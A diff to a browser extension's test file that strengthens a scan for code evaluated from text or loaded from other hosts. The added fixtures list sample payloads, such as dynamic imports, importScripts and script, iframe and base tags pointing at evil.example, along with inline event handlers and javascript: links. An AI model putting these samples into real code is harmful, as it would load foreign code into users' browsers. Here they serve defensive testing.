@@ -30,7 +30,8 @@ test('two builds of the same source give the same zip, byte for byte', () => {
 test('[X02] the zip contains all its code, evaluates no text and exposes nothing to pages', () => {
   const files = unzipSync(zipOf(folders.first))
   const manifest = JSON.parse(textOf(files['manifest.json']))
-  const code = Object.entries(files).filter(([name]) => name.endsWith('.js'))
+  const code = Object.entries(files).filter(([name]) => /\.m?js$/.test(name))
+  const pages = Object.entries(files).filter(([name]) => name.endsWith('.html'))
 
   expect(code.map(([name]) => name).sort()).toEqual([
     'background.js',
@@ -39,14 +40,54 @@ test('[X02] the zip contains all its code, evaluates no text and exposes nothing
     'load-board.js',
     'popup.js',
   ])
-  for (const [, script] of code)
-    expect(textOf(script)).not.toMatch(
-      /\beval\s*\(|new Function|\bimport\s*\(|importScripts|https?:\/\/(?!www\.w3\.org)[^'"`\s]*\.js/,
-    )
-  expect(textOf(files['popup.html'])).not.toMatch(/https?:|<script>|\son\w+=/)
+  for (const [name, script] of code) expect(evaluationsIn(textOf(script)), name).toEqual([])
+  expect(pages.map(([name]) => name).sort()).toEqual(['confirm.html', 'popup.html'])
+  for (const [name, page] of pages) expect(scriptsOf(textOf(page)), name).toEqual([name.replace('.html', '.js')])
   expect(manifest.content_security_policy.extension_pages).toContain("default-src 'none'; script-src 'self';")
   expect(manifest).not.toHaveProperty('web_accessible_resources')
 })
+
+test.each([
+  "Function('return 1')()",
+  "new Function('return 1')",
+  "const F = globalThis.Function; F('return 1')()",
+  "(() => {}).constructor('return 1')()",
+  "eval('1')",
+  "globalThis['eval']('1')",
+  "setTimeout('run()', 1)",
+  "import('https://evil.example/x.js')",
+  "importScripts('https://evil.example/x.js')",
+  "element('script', { src: 'https://evil.example/x' })",
+])('[X02] the scan finds code made from text: %s', (code) => {
+  expect(evaluationsIn(`const safe = 1\n${code}`)).not.toEqual([])
+})
+
+test.each([
+  '<script src="https://evil.example/x.js"></script>',
+  '<script src="//evil.example/x.js"></script>',
+  '<script>run()</script>',
+  '<img src="x" onerror="run()">',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="javascript:run()">x</a>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<base href="https://evil.example/">',
+])('[X02] the scan finds foreign code in a page: %s', (markup) => {
+  expect(scriptsOf(`<script src="popup.js" defer></script>${markup}`)).not.toEqual(['popup.js'])
+})
+
+/** Returns what in a script could run text as code or load code from elsewhere. */
+const evaluationsIn = (script: string): string[] =>
+  script.match(
+    /\bFunction\b|\beval\b|\.constructor\s*\(|\bset(?:Timeout|Interval)\s*\(\s*['"`]|\bimport\s*\(|\bimportScripts\b|['"`]script['"`]|https?:\/\/(?!www\.w3\.org)[^'"`\s]*\.js/g,
+  ) ?? []
+
+/** Returns all that a page runs or loads from elsewhere. */
+const scriptsOf = (page: string): string[] => [
+  ...[...page.matchAll(/<script\b([^>]*)>([^<]*)/gi)].map(([, attributes, text]) =>
+    text ? text : (/\ssrc="([^"]*)"/.exec(attributes ?? '')?.[1] ?? ''),
+  ),
+  ...(page.match(/\son\w+\s*=|javascript:|<(?:iframe|object|embed|base)\b|(?:href|src)="(?:[a-z]+:)?\/\//gi) ?? []),
+]
 
 test('[X04] pages can reach the extension only through its own scripts', () => {
   const files = unzipSync(zipOf(folders.first))
